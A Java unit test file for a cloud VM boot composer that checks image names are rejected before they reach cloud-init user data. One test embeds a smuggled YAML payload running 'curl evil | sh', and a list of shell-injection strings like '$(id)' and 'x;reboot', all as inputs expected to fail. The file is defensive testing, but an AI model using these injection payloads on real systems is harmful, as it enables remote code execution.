/*
 * Copyright The csv2 Authors
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *     https://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */
package org.csv2.core.engine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import java.util.Map;
import org.csv2.model.Allocation;
import org.csv2.model.Boot;
import org.csv2.model.BootRequest;
import org.csv2.model.CloudName;
import org.csv2.model.Flavor;
import org.csv2.model.FlavorName;
import org.csv2.model.Group;
import org.csv2.model.GroupName;
import org.csv2.model.Resources;
import org.csv2.model.UserDataDocument;
import org.csv2.model.VmDefaults;
import org.csv2.model.VmId;
import org.junit.jupiter.api.Test;

class UserDataBootComposerTest {
  private static final Allocation ALLOCATION = Allocation.of("atlas", "c1", 0);
  private static final Flavor FLAVOR = Flavor.of("small", Resources.of(2, 4096, 20));
  private static final Boot BOOT =
      new Boot(GroupName.of("atlas"), CloudName.of("c1"), FlavorName.of("small"), "centos", null, 2, 2, null, List.of(), 0, "test");
  private static final List<VmId> NAMES = List.of(VmId.of("atlas--c1--t1--a"), VmId.of("atlas--c1--t1--b"));

  private static Group group(String template) {
    return group("boot.sh", "text/x-shellscript", template);
  }

  private static Group group(String name, String mimeType, String template) {
    Group g = Group.of("atlas");
    return new Group(
        g.name(), g.jobDefaults(), g.vmDefaults(),
        List.of(new UserDataDocument(name, 0, mimeType, template, true)),
        List.of(), 1.0, Map.of());
  }

  private static Boot bootOf(String image) {
    return new Boot(GroupName.of("atlas"), CloudName.of("c1"), FlavorName.of("small"), image, null, 2, 2, null, List.of(), 0, "test");
  }

  @Test
  void anImageNameWithANewlineNeverAddsYamlKeysToTheUserData() {
    // issue 20 item 2: a job's Csv2Image naming an image called "alma9\nruncmd: [...]" added a
    // top-level runcmd that passed the YAML check
    Group g = group("worker.yaml", "text/cloud-config", "#cloud-config\nwrite_files:\n  - path: /etc/image\n    content: {{image}}\n");
    Boot hostile = bootOf("alma9\nruncmd: [[sh, -c, 'curl evil | sh']]");
    assertThatThrownBy(() -> new UserDataBootComposer("t1").requests(g, ALLOCATION, hostile, FLAVOR, NAMES, VmDefaults.NONE, Map.of()))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("the image 'alma9\\u000aruncmd")
        .hasMessageContaining("letters, digits and . _ : / @ + = -")
        .hasMessageNotContaining("\n");
    for (String bad : List.of("a b", "x;reboot", "$(id)", "`id`", "a#b", "'q'", "\"q\"", "-rf", "")) {
      assertThatThrownBy(() -> new UserDataBootComposer("t1").requests(g, ALLOCATION, bootOf(bad), FLAVOR, NAMES, VmDefaults.NONE, Map.of()))
          .as(bad)
          .isInstanceOf(IllegalArgumentException.class);
    }
    assertThat(new UserDataBootComposer("t1").requests(g, ALLOCATION, bootOf("docker.io/alma:9.4+b1@sha256=x"), FLAVOR, NAMES, VmDefaults.NONE, Map.of()))
        .singleElement()
        .satisfies(r -> assertThat(r.userData().text()).contains("content: docker.io/alma:9.4+b1@sha256=x\n"));
  }

  @Test
  void anUnsafeImageNameIsFineWhenNoTemplateRendersIt() {
    assertThat(new UserDataBootComposer("t1").requests(group("#!/bin/sh\necho {{group}}\n"), ALLOCATION, bootOf("Ubuntu 22.04 LTS"), FLAVOR, NAMES, VmDefaults.NONE, Map.of()))
        .singleElement()
        .satisfies(r -> assertThat(r.image()).isEqualTo("Ubuntu 22.04 LTS"));
  }

  @Test
  void oneRequestBootsAllWhenNoDocumentNamesTheVm() {
    List<BootRequest> requests =
        new UserDataBootComposer("t1")
            .requests(group("#!/bin/sh\necho {{group}} on {{cloud}}\n"), ALLOCATION, BOOT, FLAVOR, NAMES, VmDefaults.NONE, Map.of("k", "v"));
    assertThat(requests).singleElement().satisfies(r -> {
      assertThat(r.names()).isEqualTo(NAMES);
      assertThat(r.userData().text()).contains("echo atlas on c1");
      assertThat(r.tags()).containsEntry("k", "v");
    });
  }

  @Test
  void eachVmGetsItsOwnRequestWhenADocumentUsesVmName() {
    List<BootRequest> requests =
        new UserDataBootComposer("t1")
            .requests(group("#!/bin/sh\nhostname {{vm_name}}\n"), ALLOCATION, BOOT, FLAVOR, NAMES, VmDefaults.NONE, Map.of());
    assertThat(requests).hasSize(2);
    for (int i = 0; i < 2; i++) {
      assertThat(requests.get(i).names()).containsExactly(NAMES.get(i));
      assertThat(requests.get(i).userData().text()).contains("hostname " + NAMES.get(i).value());
    }
  }
}
